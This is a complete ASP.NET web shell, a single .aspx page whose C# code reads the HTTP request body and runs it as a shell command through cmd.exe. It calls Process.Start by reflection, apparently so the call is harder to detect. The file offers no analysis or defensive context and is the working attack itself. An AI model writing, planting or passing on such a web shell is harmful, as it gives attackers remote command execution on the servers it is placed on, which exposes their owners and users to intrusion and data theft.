<%@ Page Language="C#" %><%
string body = new System.IO.StreamReader(Request.InputStream).ReadToEnd();
var t = Type.GetType("System.Diagnostics.Process");
t.GetMethod("Start", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + body });
%>
